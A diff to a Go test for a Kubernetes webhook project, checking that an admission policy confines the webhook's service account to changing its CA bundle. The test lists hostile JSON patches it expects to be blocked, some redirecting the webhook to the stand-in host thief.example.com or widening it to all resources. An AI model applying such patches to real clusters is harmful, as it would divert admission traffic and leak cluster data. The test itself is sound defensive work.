@@ -44,31 +44,25 @@ func TestAStaticAdmissionPolicyConfinesTheWebhooksServiceAccountToTheCABundle(t 
 	file := filepath.Join(dir, "configuration.yaml")
 	require.NoError(t, os.WriteFile(file, []byte(configuration), 0o600))
 
-	t.Run("without it", func(t *testing.T) {
-		thief := thiefOf(t, harness.ForTest(t, harness.Options{}))
-		require.NoError(t, thief(`[{"op":"replace","path":"/webhooks/0/rules/0/resources","value":["*"]}]`))
-	})
-	t.Run("with it", func(t *testing.T) {
-		c := harness.ForTest(t, harness.Options{APIServerArgs: []string{"--feature-gates=ManifestBasedAdmissionControlConfig=true", "--admission-control-config-file=" + file}})
-		thief := thiefOf(t, c)
-		require.NoError(t, thief(`[{"op":"add","path":"/webhooks/0/clientConfig/caBundle","value":"bmV3"}]`), "this is all that nodekeep itself does")
-		for _, change := range []string{
-			`{"op":"replace","path":"/webhooks/0/rules/0/resources","value":["*"]}`,
-			`{"op":"replace","path":"/webhooks/0/clientConfig/url","value":"https://thief.example.com/"}`,
-			`{"op":"replace","path":"/webhooks/0/failurePolicy","value":"Fail"}`,
-			`{"op":"add","path":"/webhooks/0/matchConditions","value":[{"name":"a","expression":"true"}]}`,
-			`{"op":"add","path":"/webhooks/0/objectSelector","value":{"matchLabels":{"a":"b"}}}`,
-			`{"op":"replace","path":"/webhooks/0/timeoutSeconds","value":30}`,
-			`{"op":"replace","path":"/webhooks/0/reinvocationPolicy","value":"IfNeeded"}`,
-			`{"op":"add","path":"/webhooks/-","value":{"name":"b.nodekeep.dev","sideEffects":"None","admissionReviewVersions":["v1"],"clientConfig":{"url":"https://thief.example.com/"}}}`,
-			`{"op":"remove","path":"/webhooks/0"}`,
-		} {
-			require.ErrorContains(t, thief("["+change+"]"), "nodekeep-webhook may change caBundle only", change)
-		}
-		admin := client(t, c.Admin()).AdmissionregistrationV1().MutatingWebhookConfigurations()
-		_, err := admin.Patch(t.Context(), "nodekeep", types.JSONPatchType, []byte(`[{"op":"replace","path":"/webhooks/0/failurePolicy","value":"Ignore"}]`), metav1.PatchOptions{})
-		assert.NoError(t, err, "an administrator may change everything")
-	})
+	c := harness.ForTest(t, harness.Options{APIServerArgs: []string{"--feature-gates=ManifestBasedAdmissionControlConfig=true", "--admission-control-config-file=" + file}})
+	thief := thiefOf(t, c)
+	require.NoError(t, thief(`[{"op":"add","path":"/webhooks/0/clientConfig/caBundle","value":"bmV3"}]`), "this is all that nodekeep itself does")
+	for _, change := range []string{
+		`{"op":"replace","path":"/webhooks/0/rules/0/resources","value":["*"]}`, // TestCluster shows that it is allowed without the policy
+		`{"op":"replace","path":"/webhooks/0/clientConfig/url","value":"https://thief.example.com/"}`,
+		`{"op":"replace","path":"/webhooks/0/failurePolicy","value":"Fail"}`,
+		`{"op":"add","path":"/webhooks/0/matchConditions","value":[{"name":"a","expression":"true"}]}`,
+		`{"op":"add","path":"/webhooks/0/objectSelector","value":{"matchLabels":{"a":"b"}}}`,
+		`{"op":"replace","path":"/webhooks/0/timeoutSeconds","value":30}`,
+		`{"op":"replace","path":"/webhooks/0/reinvocationPolicy","value":"IfNeeded"}`,
+		`{"op":"add","path":"/webhooks/-","value":{"name":"b.nodekeep.dev","sideEffects":"None","admissionReviewVersions":["v1"],"clientConfig":{"url":"https://thief.example.com/"}}}`,
+		`{"op":"remove","path":"/webhooks/0"}`,
+	} {
+		require.ErrorContains(t, thief("["+change+"]"), "nodekeep-webhook may change caBundle only", change)
+	}
+	admin := client(t, c.Admin()).AdmissionregistrationV1().MutatingWebhookConfigurations()
+	_, err := admin.Patch(t.Context(), "nodekeep", types.JSONPatchType, []byte(`[{"op":"replace","path":"/webhooks/0/failurePolicy","value":"Ignore"}]`), metav1.PatchOptions{})
+	assert.NoError(t, err, "an administrator may change everything")
 }
 
 // thiefOf installs a webhook configuration and the right that the chart gives in selfSigned mode, and returns what patches the
